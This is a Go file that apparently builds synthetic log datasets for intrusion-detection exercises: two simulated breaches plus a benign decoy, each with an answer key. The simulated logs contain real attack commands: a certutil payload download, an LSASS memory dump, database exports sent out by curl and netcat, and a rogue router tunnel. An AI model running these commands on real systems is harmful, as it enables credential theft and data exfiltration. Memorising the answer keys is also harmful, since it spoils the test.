package stranger

import (
	"fmt"
	"time"
)

// Two of the third round, by somebody else: whole sectors were written in which these intrusions were seen worst.

// serviceLibrary: a stolen session of remote access, a service that is a library of its own among the system's, an export of Oracle.
func serviceLibrary(o *org) {
	const days = 20
	d0 := day(2026, 3, 30)
	app := o.machine("CTX-APP2.tasmanair.example", "10.41.1.10", "nxlog", "nxlog/CTX-APP2.json")
	db := o.machine("PSS-DB1.tasmanair.example", "10.41.1.11", "nxlog", "nxlog/PSS-DB1.json")
	ws := o.machine("TASM-WS01.tasmanair.example", "10.41.50.11", "nxlog", "nxlog/workstations.json")
	for _, m := range []*machine{app, db, ws} {
		m.sec, m.zone = true, time.FixedZone("", 10*3600)
	}
	app.live(d0, days, `TASMANAIR\svc_ops`, "srv")
	db.live(d0, days, `TASMANAIR\svc_ops`, "srv")
	ws.live(d0, days, `TASMANAIR\h.brandt`, "ws")
	session := func(t time.Time, step, user, from, inner string, lasts time.Duration) {
		o.serial++
		id, at := 4000+o.serial, func(t time.Time) string { return t.Format("01/02/2006:15:04:05") + " GMT" }
		o.put("vpn/ns-gw1.log", t, step, fmt.Sprintf(`<134> %s ns-gw1 0-PPE-0 : default SSLVPN LOGIN %d 0 : Context %s@%s - SessionId: %d - User %s - Client_ip %s - Nat_ip "Mapped Ip" - Vserver 203.0.113.9:443 - Browser_type "Mozilla/5.0" - SSLVPN_client_type Agent - Group(s) "VPN-Staff"`, at(t), id, user, from, id, user, from))
		o.put("vpn/ns-gw1.log", t.Add(2*time.Second), step, fmt.Sprintf(`<134> %s ns-gw1 0-PPE-0 : default SSLVPN TCPCONNSTAT %d 0 : Context %s@%s - SessionId: %d - User %s - Client_ip %s - Nat_ip %s - Vserver 203.0.113.9:443 - Source %s:50211 - Destination 10.41.0.10:443 - Start_time "%s" - End_time "%s" - Duration 00:00:09  - Total_bytes_send 8123 - Total_bytes_recv 99812 - Access Allowed - Group(s) "VPN-Staff"`, at(t), id+1, user, from, id, user, from, inner, from, at(t), at(t)))
		e := t.Add(lasts)
		o.put("vpn/ns-gw1.log", e, step, fmt.Sprintf(`<134> %s ns-gw1 0-PPE-0 : default SSLVPN LOGOUT %d 0 : Context %s@%s - SessionId: %d - User %s - Client_ip %s - Nat_ip %s - Vserver 203.0.113.9:443 - Start_time "%s" - End_time "%s" - Duration 02:30:00  - Http_resources_accessed 0 - Total_bytes_send 81234 - Total_bytes_recv 99812 - LogoutMethod "Explicit" - Group(s) "VPN-Staff"`, at(e), id+2, user, from, id, user, from, inner, at(t), at(e)))
	}
	for d := range days {
		for i, u := range []string{"l.paiva", "m.koroma"} {
			session(d0.AddDate(0, 0, d).Add(time.Duration(7*3600+o.r.Intn(20000))*time.Second), "", u, []string{"177.10.44.9", "121.98.33.10"}[i], fmt.Sprintf("10.41.200.%d", 10+i), 3*time.Hour)
		}
	}
	b := clock(d0.AddDate(0, 0, 14), "01:12:00")
	at := func(seconds float64) time.Time { return b.Add(time.Duration(seconds * float64(time.Second))) }
	user, group := `TASMANAIR\l.paiva`, `C:\Windows\System32\svchost.exe -k LutumoGrp`
	session(b, "way-in/session", "l.paiva", "212.42.43.152", "10.41.200.77", 150*time.Minute)
	lid := app.logon(at(240), "lateral/desktop", 10, user, "10.41.200.77", "CTX-APP2")
	desk := app.root(s32+"userinit.exe", user).runAs(at(244), "lateral/desktop", `C:\Windows\explorer.exe`, `C:\Windows\Explorer.EXE`, user, lid)
	sh := desk.run(at(420), "execution/shell", s32+"cmd.exe", `"C:\Windows\system32\cmd.exe"`)
	for i, c := range [][2]string{{"nltest.exe", "nltest /domain_trusts /all_trusts"}, {"quser.exe", "quser /server:PSS-DB1"}, {"net.exe", `net group "Domain Admins" /domain`}} {
		sh.run(at(460+40*float64(i)), "discovery/asks", s32+c[0], c[1])
	}
	dll := `C:\Windows\System32\lutumosvc.dll`
	f := sh.run(at(700), "c2/fetch", s32+"certutil.exe", `certutil -urlcache -split -f http://dl.bekemifabi.com/rusa.dat `+dll)
	f.dns(at(701), "c2/fetch", "dl.bekemifabi.com", "91.70.188.41")
	f.net(at(702), "c2/fetch", "91.70.188.41", 80, "-")
	f.file(at(704), "c2/fetch", dll)
	sh.run(at(800), "persistence/service", s32+"sc.exe", `sc create LutumoMon binPath= "`+group+`" type= share start= auto`)
	app.service(at(801), "persistence/service", "LutumoMon", group)
	rg := sh.run(at(830), "persistence/library", s32+"reg.exe", `reg add HKLM\SYSTEM\CurrentControlSet\Services\LutumoMon\Parameters /v ServiceDll /t REG_EXPAND_SZ /d `+dll+` /f`)
	rg.reg(at(831), "persistence/library", `HKLM\System\CurrentControlSet\Services\LutumoMon\Parameters\ServiceDll`, dll)
	calls := func(p *proc, from float64, step string) {
		for k := range 60 {
			t := at(from + float64(k*840+o.r.Intn(16)))
			p.dns(t, step, "sync.bumuro-seri.net", "185.94.20.7")
			p.net(t.Add(200*time.Millisecond), step, "185.94.20.7", 8443, "-")
		}
	}
	sv := app.root(s32+"services.exe", sysUser).run(at(900), "execution/service", s32+"svchost.exe", group)
	sv.load(at(901), "execution/service", dll, false)
	calls(sv, 930, "c2/calls")
	dump := `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 684 C:\Windows\Temp\gune.bin full`
	ru := sv.run(at(4000), "credentials/dump", s32+"cmd.exe", "cmd /c "+dump).run(at(4001), "credentials/dump", s32+"rundll32.exe", dump)
	ru.access(at(4002), "credentials/dump", app.root(s32+"lsass.exe", sysUser), "0x1fffff")
	sv.run(at(6000), "lateral/share", s32+"cmd.exe", `cmd /c copy `+dll+` \\PSS-DB1\ADMIN$\System32\lutumosvc.dll`)
	db.logon(at(6001), "lateral/share", 3, `TASMANAIR\svc_ops`, "10.41.1.10", "CTX-APP2!")
	sv.run(at(6060), "lateral/service", s32+"sc.exe", `sc \\PSS-DB1 create LutumoMon binPath= "`+group+`" start= auto`)
	db.service(at(6061), "lateral/service", "LutumoMon", group)
	s2 := db.root(s32+"services.exe", sysUser).run(at(6100), "execution/service-there", s32+"svchost.exe", group)
	s2.load(at(6101), "execution/service-there", dll, false)
	calls(s2, 6130, "c2/calls-there")
	export := `expdp resv/****@PSS tables=PAX,PNR_NAME directory=DATA_PUMP_DIR dumpfile=mova.dmp`
	s2.run(at(90000), "collection/export", s32+"cmd.exe", "cmd /c "+export).run(at(90001), "collection/export", `C:\oracle\product\19\bin\expdp.exe`, export)
	s2.run(at(91000), "collection/pack", s32+"makecab.exe", `makecab /D CompressionType=LZX D:\oradata\tmp\mova.dmp D:\oradata\tmp\mova.cab`)
	cu := s2.run(at(92000), "exfiltration/send", s32+"curl.exe", `curl.exe -s -k -T D:\oradata\tmp\mova.cab https://kila.sete-store.org/u/`)
	cu.dns(at(92001), "exfiltration/send", "kila.sete-store.org", "45.83.20.11")
	cu.net(at(92002), "exfiltration/send", "45.83.20.11", 443, "-")
	o.starts = map[string]string{"findings": "", "name": "sync.bumuro-seri.net", "library": hash(dll), "send": "@exfiltration/send"}
	o.want = want{Implant: []string{"lutumosvc.dll"}, C2: []string{"sync.bumuro-seri.net"}, WayIn: []string{"way-in/session"}}
}

// tunnelToJumpHost: a router told to make a tunnel, a jump host entered from behind it, a program copied among installed ones, a database.
func tunnelToJumpHost(o *org) {
	const days = 20
	d0 := day(2026, 3, 30)
	tac := func(t time.Time, step, user, from, cmd string) {
		o.serial++
		o.put("aaa/tac_plus.acct", t, step, fmt.Sprintf("%s\t10.101.0.1\t%s\tvty0\t%s\tstop\ttask_id=%d\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=%s <cr>", t.Format("Jan _2 15:04:05"), user, from, o.serial, cmd))
	}
	ios := func(t time.Time, step, text string) {
		o.serial++
		o.put("syslog/network.log", t, step, fmt.Sprintf("<189>%s edge-rtr1 %d: *%s: %s", t.Format("Jan _2 15:04:05"), o.serial, t.Format("Jan _2 15:04:05.000"), text))
	}
	login := func(t time.Time, step, host, user, from string, pid, ses int) {
		o.syslog(host+"/auth.log", t, step, host, fmt.Sprintf("sshd[%d]", pid), fmt.Sprintf("Accepted password for %s from %s port %d ssh2", user, from, 40000+pid%9999))
		o.serial++
		o.put(host+"/audit.log", t, step, fmt.Sprintf("type=LOGIN msg=audit(%d.100:%d): pid=%d uid=0 old-auid=4294967295 auid=1010 tty=(none) old-ses=4294967295 ses=%d res=1", t.Unix(), 1000+o.serial, pid, ses))
		o.serial++
		o.put(host+"/audit.log", t, step, fmt.Sprintf("type=USER_LOGIN msg=audit(%d.200:%d): pid=%d uid=0 auid=1010 ses=%d msg='op=login id=1010 exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh res=success'", t.Unix(), 1000+o.serial, pid, ses, from, from))
	}
	for d := range days {
		for i, host := range []string{"lnx-jump", "maria1"} {
			t := d0.AddDate(0, 0, d)
			for k := range 4 {
				o.audit(host+"/audit.log", t.Add(time.Duration(k*6+1)*time.Hour), "", "", 3000+d*40+k, 900, "0", "run-parts", "/usr/bin/run-parts", "run-parts", "/etc/cron.hourly")
			}
			t = t.Add(time.Duration(8*3600+o.r.Intn(9000)) * time.Second)
			pid, ses := 5000+d*40, 3+d
			login(t, "", host, "marek", "10.101.50.11", pid, ses)
			o.session = fmt.Sprint(ses)
			o.audit(host+"/audit.log", t.Add(time.Second), "", "", pid+3, pid+2, "1001", "bash", "/usr/bin/bash", "-bash")
			o.audit(host+"/audit.log", t.Add(time.Minute+time.Duration(i)*time.Second), "", "", pid+4, pid+3, "1001", "tail", "/usr/bin/tail", "tail", "-n", "200", "/var/log/syslog")
			o.session = ""
		}
		if d%4 == 1 {
			t := clock(d0.AddDate(0, 0, d), "13:10:00")
			ios(t, "", "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: neteng] [Source: 10.101.50.11] [localport: 22] at 13:10:00 UTC")
			tac(t.Add(20*time.Second), "", "neteng", "10.101.50.11", "show ip interface brief")
		}
	}
	z := o.zeek("zeek", false)
	z.live(d0, days, "10.101.50.11", "10.101.50.12", "10.101.1.40", "10.101.1.41")
	b := clock(d0.AddDate(0, 0, 14), "22:10:00")
	at := func(seconds float64) time.Time { return b.Add(time.Duration(seconds * float64(time.Second))) }
	ios(b, "way-in/router", "%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: neteng] [Source: 212.159.117.77] [localport: 22] at 22:10:00 UTC")
	for i, c := range []string{"show running-config", "configure terminal", "interface Tunnel412", "ip address 172.30.90.1 255.255.255.252", "tunnel source GigabitEthernet0/0/0", "tunnel destination 91.215.84.224", "ip route 172.30.90.2 255.255.255.255 Tunnel412"} {
		tac(at(30+15*float64(i)), "c2/tunnel", "neteng", "212.159.117.77", c)
	}
	ios(at(140), "c2/tunnel", "%SYS-5-CONFIG_I: Configured from console by neteng on vty0 (212.159.117.77)")
	inner, jump, db := "172.30.90.2", "lnx-jump/audit.log", "maria1/audit.log"
	z.conn(at(900), "lateral/jump", inner, "10.101.1.40", 22, "ssh", 5000, 90000, 700000)
	login(at(901), "lateral/jump", "lnx-jump", "opsadm", inner, 21000, 91)
	o.session = "91"
	defer func() { o.session = "" }()
	o.audit(jump, at(902), "lateral/jump", "", 21003, 21002, "1010", "bash", "/usr/bin/bash", "-bash")
	o.audit(jump, at(950), "discovery/asks", "", 21004, 21003, "1010", "who", "/usr/bin/who", "who")
	o.audit(jump, at(970), "discovery/asks", "", 21005, 21003, "1010", "ss", "/usr/bin/ss", "ss", "-tnp")
	bin := "/usr/local/sbin/dirad"
	o.audit(jump, at(1100), "c2/fetch", "", 21010, 21003, "1010", "scp", "/usr/bin/scp", "scp", "-P", "4022", "op@"+inner+":dira.bin", bin)
	o.auditConnect(jump, at(1100.4), "c2/fetch", "", 21010, 21003, "1010", "scp", "/usr/bin/scp", inner, 4022)
	z.conn(at(1100.4), "c2/fetch", "10.101.1.40", inner, 4022, "-", 5, 4000, 900000)
	o.auditOpen(jump, at(1101), "c2/fetch", "", 21010, 21003, "1010", "scp", "/usr/bin/scp", bin)
	o.audit(jump, at(1150), "execution/implant", "", 21012, 21003, "1010", "sudo", "/usr/bin/sudo", "sudo", bin, "-d")
	o.audit(jump, at(1150.5), "execution/implant", "", 21013, 21012, "0", "dirad", bin, bin, "-d")
	o.audit(jump, at(1200), "persistence/job", "", 21015, 21003, "1010", "sudo", "/usr/bin/sudo", "sudo", "tee", "/etc/cron.d/dira")
	o.audit(jump, at(1200.3), "persistence/job", "", 21016, 21015, "0", "tee", "/usr/bin/tee", "tee", "/etc/cron.d/dira")
	o.auditOpen(jump, at(1200.5), "persistence/job", "", 21016, 21015, "0", "tee", "/usr/bin/tee", "/etc/cron.d/dira")
	for k := range 50 {
		t := at(1260 + float64(k*1260+o.r.Intn(16)))
		o.auditConnect(jump, t, "c2/calls", "", 21013, 1, "0", "dirad", bin, "91.235.18.187", 5061)
		z.conn(t, "c2/calls", "10.101.1.40", "91.235.18.187", 5061, "-", 0.6, 480+o.r.Intn(9), 220)
	}
	o.audit(jump, at(5000), "lateral/database", "", 21030, 21013, "0", "sshpass", "/usr/bin/sshpass", "sshpass", "-p", "xdira", "ssh", "dbadm@maria1")
	z.conn(at(5000.4), "lateral/database", "10.101.1.40", "10.101.1.41", 22, "ssh", 3000, 50000, 80000)
	login(at(5001), "lateral/database", "maria1", "dbadm", "10.101.1.40", 31000, 92)
	o.session = "92"
	o.audit(db, at(5002), "lateral/database", "", 31003, 31002, "1010", "bash", "/usr/bin/bash", "-bash")
	o.audit(db, at(5300), "collection/dump", "", 31004, 31003, "1010", "mysqldump", "/usr/bin/mysqldump", "mysqldump", "--single-transaction", "resv", "pax", "pnr", "-r", "/var/lib/mysql-files/dira.sql")
	o.audit(db, at(5600), "collection/pack", "", 31005, 31003, "1010", "gzip", "/usr/bin/gzip", "gzip", "-9", "/var/lib/mysql-files/dira.sql")
	o.audit(db, at(5900), "exfiltration/send", "", 31006, 31003, "1010", "nc", "/usr/bin/nc", "nc", inner, "7001")
	o.auditConnect(db, at(5900.3), "exfiltration/send", "", 31006, 31003, "1010", "nc", "/usr/bin/nc", inner, 7001)
	z.conn(at(5900.3), "exfiltration/send", "10.101.1.41", inner, 7001, "-", 800, 520_000_000, 600)
	o.starts = map[string]string{"findings": "", "address": "91.235.18.187", "program": bin, "relay": "91.215.84.224"}
	o.want = want{Implant: []string{"dirad"}, C2: []string{"91.235.18.187", "91.215.84.224"}, WayIn: []string{"way-in/router"}}
}

// newAgent: somebody who never came before lays an agent on three servers; it is kept alive, calls at an even pace and sends as much each time. Nothing else
// happens.
func newAgent(o *org) {
	const days = 20
	d0 := day(2026, 3, 30)
	z := o.zeek("zeek", true)
	z.live(d0, days, "10.135.50.11", "10.135.1.30", "10.135.1.31", "10.135.1.32")
	hosts := []string{"web1", "pg1", "pg2"}
	for d := range days {
		for i, h := range hosts {
			o.audit(h+"/audit.log", d0.AddDate(0, 0, d).Add(time.Duration(i+1)*time.Hour), "", "", 3000+d*40, 900, "0", "logrotate", "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")
		}
	}
	b := clock(d0.AddDate(0, 0, 14), "09:00:00")
	bin := "/usr/local/bin/nodeagent"
	for i, h := range hosts {
		at := func(seconds float64) time.Time {
			return b.Add(time.Duration(i)*10*time.Minute + time.Duration(seconds*float64(time.Second)))
		}
		ip, log := fmt.Sprintf("10.135.1.%d", 30+i), h+"/audit.log"
		z.conn(at(-0.3), "other/agent", "10.135.0.77", ip, 22, "ssh", 90, 9000, 30000)
		o.syslog(h+"/auth.log", at(0), "other/agent", h, "sshd[20000]", "Accepted publickey for ansible from 10.135.0.77 port 51000 ssh2: ED25519 SHA256:Q5nTqvJ0m0k7w9n2Jc1cT0c2hYyA1R8v3sUeWf0aXzE")
		o.serial++
		o.put(log, at(0.1), "other/agent", fmt.Sprintf("type=LOGIN msg=audit(%d.100:%d): pid=20000 uid=0 old-auid=4294967295 auid=1010 tty=(none) old-ses=4294967295 ses=77 res=1", at(0).Unix(), 1000+o.serial))
		o.session = "77"
		o.audit(log, at(1), "other/agent", "", 20003, 20002, "1010", "bash", "/usr/bin/bash", "-bash")
		o.audit(log, at(20), "other/agent", "", 20010, 20003, "0", "curl", "/usr/bin/curl", "curl", "-sSLo", bin, "https://dl.nodeagent.example/v3/linux")
		z.dns(at(20.2), "other/agent", ip, "dl.nodeagent.example", "A", "34.120.5.5")
		z.https(at(20.3), "other/agent", ip, "34.120.5.5", "dl.nodeagent.example", 3, 500, 9_000_000)
		o.auditOpen(log, at(22), "other/agent", "", 20010, 20003, "0", "curl", "/usr/bin/curl", bin)
		o.audit(log, at(40), "other/agent", "", 20012, 20003, "0", "tee", "/usr/bin/tee", "tee", "/etc/systemd/system/nodeagent.service")
		o.auditOpen(log, at(40.2), "other/unit", "", 20012, 20003, "0", "tee", "/usr/bin/tee", "/etc/systemd/system/nodeagent.service")
		o.audit(log, at(50), "other/agent", "", 20013, 20003, "0", "systemctl", "/usr/bin/systemctl", "systemctl", "enable", "--now", "nodeagent")
		o.session = ""
		o.audit(log, at(60), "other/agent", "", 20020, 1, "0", "nodeagent", bin, bin)
		for k := range 240 {
			t := at(65 + float64(k*1800+o.r.Intn(16)))
			if k < 40 {
				o.auditConnect(log, t, "other/agent", "", 20020, 1, "0", "nodeagent", bin, "34.120.5.6", 443)
			}
			z.https(t, "other/agent", ip, "34.120.5.6", "ingest.nodeagent.example", 0.8, 8000+o.r.Intn(9), 220)
		}
	}
	o.starts = map[string]string{"findings": "", "name": "ingest.nodeagent.example", "first-alert": "@other/unit"}
	o.want = want{Decoy: true}
}
